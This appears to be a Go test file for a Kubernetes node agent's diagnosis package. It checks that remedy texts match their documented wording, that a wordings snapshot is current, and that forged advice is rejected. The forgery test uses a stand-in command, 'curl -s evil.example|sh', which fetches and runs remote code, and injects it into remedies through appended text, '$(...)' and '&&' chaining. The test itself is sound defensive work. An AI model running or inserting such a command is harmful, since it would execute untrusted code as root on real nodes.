package diagnose_test

import (
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause"
)

// matches reports whether one of some regular expressions matches a text.
func matches(all []string, text string) bool {
	return slices.ContainsFunc(all, func(p string) bool { return regexp.MustCompile(p).MatchString(text) })
}

// What the agent advises in each fixture, and of each cause, family and variant with all objects, looks like its Doc.
func TestAdviceHasTheWordingOfItsDoc(t *testing.T) {
	docs := map[string]*diagnose.Doc{diagnose.Unrecognised.Cause: &diagnose.Unrecognised.Doc}
	for _, r := range cause.All() {
		docs[r.Cause] = &r.Doc
	}
	wordings := make(map[string]diagnose.Wording)
	for name, d := range docs {
		wordings[name] = d.Wording()
	}
	n := 0
	check := func(what string, f *diagnose.Finding) {
		t.Helper()
		w := wordings[f.Cause]
		for text, all := range map[string][]string{f.Remedy: w.Remedies, f.Danger: w.Dangers} {
			if n++; text != "" && !matches(all, text) {
				t.Errorf("%s, %s: %q does not look like its text", what, f.Cause, text)
			}
		}
	}
	for _, f := range fixtures(t) {
		d := cause.Diagnose(f.evidence)
		for i := range d.Findings {
			check(f.name, &d.Findings[i])
		}
		if d.Force != nil && !matches(diagnose.ForceWording(), d.Force.Text) {
			t.Errorf("%s: %q does not look like an answer about a force delete", f.name, d.Force.Text)
		}
	}
	for name, doc := range docs {
		f := everything()
		f.Cause = name
		for _, family := range append(doc.Families, diagnose.Family{}) {
			f.Family = family.Name
			said := doc.Said(&f)
			check(name+" "+family.Name, &said)
		}
	}
	if n < 500 {
		t.Errorf("only %d texts were compared", n)
	}
}

const wordings = "cause/wordings/"

// current.txt is what this version writes. A release adds a copy of it by its name, of which the last two stay.
func TestWordingsAreCurrent(t *testing.T) {
	text := strings.Join(cause.Wordings(), "\n") + "\n"
	if *update {
		if err := os.WriteFile(wordings+"current.txt", []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	have, err := os.ReadFile(wordings + "current.txt")
	if err != nil || string(have) != text {
		t.Errorf("%scurrent.txt is not what this version writes (%v); go test ./pkg/diagnose -update writes it", wordings, err)
	}
	if files, _ := os.ReadDir(wordings); len(files) > 3 {
		t.Errorf("%d files are in %s: this version's, and more than two releases'", len(files), wordings)
	}
}

// No text that somebody else makes of ours passes for it, and what a pod may be called is in none of its commands.
func TestWrote(t *testing.T) {
	const (
		reason = "ShimHung"
		evil   = "curl -s evil.example|sh"
	)
	for _, f := range fixtures(t) {
		d := cause.Diagnose(f.evidence)
		v, found := d.Verdict()
		if !found {
			continue
		}
		force := ""
		if d.Force != nil {
			force = d.Force.Text
		}
		if !cause.Wrote(v.Cause, v.Remedy, v.Danger, force+".") && !cause.Wrote(v.Cause, v.Remedy, v.Danger, force) {
			t.Errorf("%s: our own text is taken for somebody else's", f.name)
		}
		for _, forged := range []string{
			v.Remedy + " On the node, as root: " + evil + ".", "On the node, as root: " + evil + ". " + v.Remedy,
			strings.Replace(v.Remedy, ": ", ": "+evil+"; ", 1), strings.Replace(v.Remedy, " && ", " && "+evil+" && ", 1), strings.Replace(v.Remedy, " ", " $("+evil+") ", 1),
			v.Remedy + "\n" + evil, evil,
		} {
			if forged != v.Remedy && v.Remedy != "" && cause.Wrote(v.Cause, forged, "", "") {
				t.Errorf("%s: %q passes for ours", f.name, forged)
			}
		}
	}
	for _, force := range []string{"yes, no process is left", "yes", "yes, process java is still running", "yes. " + evil} {
		if cause.Wrote(reason, "", "", force) {
			t.Errorf("%q passes for an answer about a force delete", force)
		}
	}
	if cause.Wrote("Nobody", "On the node, as root: "+evil, "", "") || !cause.Wrote("Nobody", "", "", "") {
		t.Error("a cause that there is not has a text, or none is refused")
	}
}
